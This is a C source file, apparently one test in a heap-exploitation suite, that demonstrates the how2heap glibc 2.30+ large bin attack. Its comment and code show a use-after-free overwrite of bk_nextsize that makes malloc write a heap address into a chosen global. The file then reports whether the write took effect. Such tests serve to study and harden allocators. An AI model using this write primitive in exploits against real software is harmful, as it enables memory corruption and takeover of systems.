/* Technique: large bin attack (how2heap large_bin_attack, glibc 2.30+
   variant through the bk_nextsize of the smallest chunk).

   Goal: a write to a chosen address (the global target receives a heap
   address).

   How: p1 (0x430) is sorted into a large bin; p2 (0x420, same bin,
   smaller) is freed into the unsorted bin.  A use-after-free write sets
   p1->bk_nextsize = &target - 4.  When malloc sorts p2 into the large
   bin as its new smallest chunk, glibc executes
   victim->bk_nextsize->fd_nextsize = victim without a check, writing
   p2's chunk address into target.  */
#include "attack.h"

size_t target = 0;

int
main (void)
{
  attack_init ("large_bin_attack: large bin bk_nextsize rewritten, insertion writes a heap pointer");
  size_t *p1 = malloc (0x428);
  void *g1 = malloc (0x18);
  size_t *p2 = malloc (0x418);
  void *g2 = malloc (0x18);
  say ("p1 %p p2 %p guards %p %p &target %p", p1, p2, g1, g2, &target);
  free (p1);
  void *g3 = malloc (0x438);	/* p1 into the large bin */
  free (p2);			/* p2 into the unsorted bin */
  p1[3] = (size_t) (&target - 4);	/* use after free: p1->bk_nextsize */
  void *g4 = malloc (0x438);	/* sorts p2 into the large bin */
  say ("malloc = %p, %p; target = %#zx", g3, g4, target);
  if (target == (size_t) CHUNK (p2))
    reached ("target at %p now holds p2's chunk address %#zx", &target, target);
  if (target != 0)
    reached ("target at %p overwritten with %#zx", &target, target);
  no_effect ("target unchanged");
}
